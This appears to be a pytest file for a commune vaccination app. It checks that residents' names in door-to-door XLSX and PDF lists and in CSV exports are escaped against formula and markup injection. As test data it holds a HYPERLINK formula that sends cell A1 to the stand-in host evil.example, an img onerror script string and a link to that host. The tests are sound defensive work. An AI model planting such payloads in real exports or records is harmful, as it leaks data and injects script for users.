"""Door-to-door lists and registry exports carry residents' names safely (issue #11, data exposure).

A name is text typed by a commune worker or imported from a file: in a spreadsheet it must never become a formula,
and in a PDF never markup (a failed print job or a live link).
"""
import csv
import datetime as dt
import io
import re
import zlib

import pytest
from openpyxl import load_workbook

from geo.models import Village

D = dt.date
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def village(commune_a):
    return Village.objects.create(commune=commune_a, name="Thôn 1")


def _pdf_text(data: bytes) -> bytes:
    """The page content streams of a reportlab PDF, inflated."""
    out = b""
    for m in re.finditer(rb"stream\r?\n(.*?)endstream", data, re.S):
        raw = m.group(1)
        for attempt in (raw, raw.rstrip(b"\r\n")):
            try:
                out += zlib.decompress(attempt)
                break
            except zlib.error:
                pass
    return out


def test_the_door_to_door_xlsx_writes_names_as_text_not_formulas(client_for, personas, village, commune_a, person_factory):
    person_factory(commune_a, full_name=HYPERLINK, date_of_birth=D(1950, 1, 1), village=village)
    person_factory(commune_a, full_name="@SUM(1+1)", date_of_birth=D(1951, 1, 1), village=village, street="-2+3")
    xlsx = client_for(personas["vaccinator_a"]).get(f"/vaccination/di-tung-nha/{village.pk}/?ngay=14/02/2022&dang=xlsx")
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    names = {ws.cell(r, 2).value: r for r in range(3, ws.max_row + 1)}
    assert "'" + HYPERLINK in names and "'@SUM(1+1)" in names
    for r in range(1, ws.max_row + 1):
        for c in range(1, ws.max_column + 1):
            assert ws.cell(r, c).data_type != "f", (r, c, ws.cell(r, c).value)
    row = names["'@SUM(1+1)"]
    assert ws.cell(row, 10).value == "'-2+3"
    assert isinstance(ws.cell(row, 3).value, int) and ws.cell(row, 3).value == 1951  # numbers stay numbers


def test_the_door_to_door_pdf_prints_markup_in_a_name_as_text(client_for, personas, village, commune_a, person_factory):
    person_factory(commune_a, full_name='<img src=x onerror="alert(1)">', date_of_birth=D(1950, 1, 1), village=village)
    person_factory(commune_a, full_name='<a href="http://evil.example/">Bấm</a> Nguyễn Văn Ân', date_of_birth=D(1951, 1, 1),
                   village=village)
    person_factory(commune_a, full_name="Trần & Lê <b", date_of_birth=D(1952, 1, 1), village=village)
    pdf = client_for(personas["vaccinator_a"]).get(f"/vaccination/di-tung-nha/{village.pk}/?ngay=14/02/2022&dang=pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    assert b"/URI" not in pdf.content and b"evil.example" not in pdf.content.split(b"stream")[0]
    assert b"/Annots" not in pdf.content  # no live link anywhere in the document


def test_people_csv_export_escapes_formulas_and_keeps_numbers(client_for, personas, commune_a, person_factory):
    person_factory(commune_a, full_name=HYPERLINK, street="+1 đường 2", phone="0905123456")
    person_factory(commune_a, full_name="Nguyễn Thị Ánh", street="-5")
    body = client_for(personas["commune_a"]).get("/people/xuat/").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    by_name = {r[1]: r for r in rows[1:]}
    assert "'" + HYPERLINK in by_name and HYPERLINK not in by_name
    assert by_name["'" + HYPERLINK][-1] == "'+1 đường 2"
    assert by_name["Nguyễn Thị Ánh"][-1] == "-5"  # a plain number is not a formula
    assert by_name["'" + HYPERLINK][7] == "0905123456"


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+2", "'=1+2"), ("+84 9", "'+84 9"), ("-A1", "'-A1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-5", "-5"), ("+84", "+84"), ("-1,5", "-1,5"), ("Nguyễn Văn An", "Nguyễn Văn An"), ("", ""), (-5, -5), (2.5, 2.5),
    (None, None), (D(2022, 2, 1), D(2022, 2, 1)),
])
def test_formula_safe_escapes_formula_starts_only(value, expected):
    from core.exports import formula_safe

    assert formula_safe(value) == expected


def test_markup_text_escapes_reportlab_markup_and_drops_control_characters():
    from core.pdf import markup_text

    assert markup_text('<a href="x">Ân</a> & <b>') == '&lt;a href="x"&gt;Ân&lt;/a&gt; &amp; &lt;b&gt;'
    assert markup_text("Lê\x00 Văn\x07 Tám") == "Lê Văn Tám"
    assert markup_text(None) == ""


def test_no_export_writes_csv_or_xlsx_rows_around_formula_safe():
    """Every CSV writer and XLSX row of the application goes through core.exports (a new export included)."""
    import pathlib

    root = pathlib.Path(__file__).resolve().parents[2]
    # Generators of demo input files: nothing in them comes from users.
    allowed = {"core/exports.py", "vaccination/synthetic.py"}
    offenders = []
    for path in root.glob("*/**/*.py"):
        rel = path.relative_to(root).as_posix()
        if rel.split("/")[0] in {"tests", "bench", ".venv", "node_modules", "staticfiles"} or rel in allowed:
            continue
        text = path.read_text(encoding="utf-8")
        for needle in (r"\bcsv\.writer\(", r"\bcsv\.DictWriter\(", r"\b(ws|sheet)\.append\("):
            if re.search(needle, text):
                offenders.append(f"{rel}: {needle}")
    assert not offenders, offenders
